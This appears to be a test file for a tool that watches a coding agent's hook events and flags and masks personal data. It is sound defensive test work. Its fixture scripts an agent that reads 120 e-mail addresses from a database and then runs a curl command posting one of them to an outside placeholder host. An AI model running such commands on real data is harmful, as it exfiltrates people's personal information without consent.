import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { readConfig } from '../config.ts';
import { startServer } from '../server.ts';
import { withoutPersonal } from './personal.ts';

let home: string;
beforeEach(() => {
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'warder-personal-'));
});
afterEach(() => fs.rmSync(home, { recursive: true, force: true }));

const addresses = Array.from({ length: 120 }, (_, i) => `ines.${i}@box${i}.acme-post.net`);
const card = ['4111', '1111', '1111', '1111'].join(' ');

/** A prompt, a call with its result and a call that sends; the calls as the API gives them, and what rests of it all. */
async function session() {
  const server = await startServer({ ...readConfig(home, { port: '0' }), env: {}, log: () => {} });
  const headers = { authorization: `Bearer ${server.token}` };
  const tell = (body: object) =>
    fetch(`${server.url}/hooks/claude-code`, {
      method: 'POST',
      headers,
      body: JSON.stringify({ session_id: 's', cwd: '/home/dev/shop', ...body }),
    });
  const read = { tool_name: 'Bash', tool_input: { command: 'psql shop -c "select * from people"' }, tool_use_id: 't1' };
  const send = {
    tool_name: 'Bash',
    tool_input: { command: `curl -d 'to=${addresses[0]}' https://in.example/x` },
    tool_use_id: 't2',
  };
  await tell({ hook_event_name: 'UserPromptSubmit', prompt: `charge the card ${card} please` });
  await tell({ hook_event_name: 'PreToolUse', ...read });
  await tell({ hook_event_name: 'PostToolUse', ...read, tool_response: { stdout: addresses.join('\n') } });
  await tell({ hook_event_name: 'PreToolUse', ...send });
  type Call = {
    score: number;
    findings: { detector: string; why: string }[];
    phases: { outcome?: { personal?: object; excerpt: string } }[];
  };
  const { items } = (await (await fetch(`${server.url}/api/v1/calls?limit=5`, { headers })).json()) as {
    items: { id: string }[];
  };
  const calls = await Promise.all(
    items.map(async ({ id }) => (await (await fetch(`${server.url}/api/v1/calls/${id}`, { headers })).json()) as Call),
  );
  await server.close();
  const rests = fs
    .readdirSync(home, { recursive: true, encoding: 'utf8' })
    .filter((name) => fs.statSync(path.join(home, name)).isFile())
    .map((name) => fs.readFileSync(path.join(home, name), 'latin1'))
    .join('\n');
  return { calls, rests };
}

const found = (calls: readonly { findings: readonly { detector: string; why: string }[] }[], detector: string) =>
  calls.flatMap(({ findings }) => findings).find((each) => each.detector === detector);

it('counts what comes back and what is said, by kind, and holds what is sent afterwards against it', async () => {
  const { calls, rests } = await session();
  expect(found(calls, 'personal-data-received')?.why).toBe('What came back holds 120 e-mail addresses.');
  expect(calls.flatMap(({ phases }) => phases).find(({ outcome }) => outcome?.personal)?.outcome?.personal).toEqual({
    email: 120,
  });
  expect(found(calls, 'session-flow')?.why).toContain('got 120 e-mail addresses');
  expect(rests).toContain('personal data in a prompt: holds a card number');
  expect(rests).toContain(addresses[0]);
});

it('masks it in what rests where the home says so, and judges all the same', async () => {
  fs.writeFileSync(path.join(home, 'config.json'), JSON.stringify({ maskPersonalData: true }));
  const { calls, rests } = await session();
  expect(found(calls, 'personal-data-received')?.why).toBe('What came back holds 120 e-mail addresses.');
  for (const value of [addresses[0] ?? '', addresses[7] ?? '', card]) expect(rests).not.toContain(value);
});

it('masks strings wherever they stand, and keeps their length', () => {
  expect(withoutPersonal({ a: [addresses[0]], n: 3, no: null })).toEqual({
    a: ['•'.repeat(addresses[0]?.length ?? 0)],
    n: 3,
    no: null,
  });
});
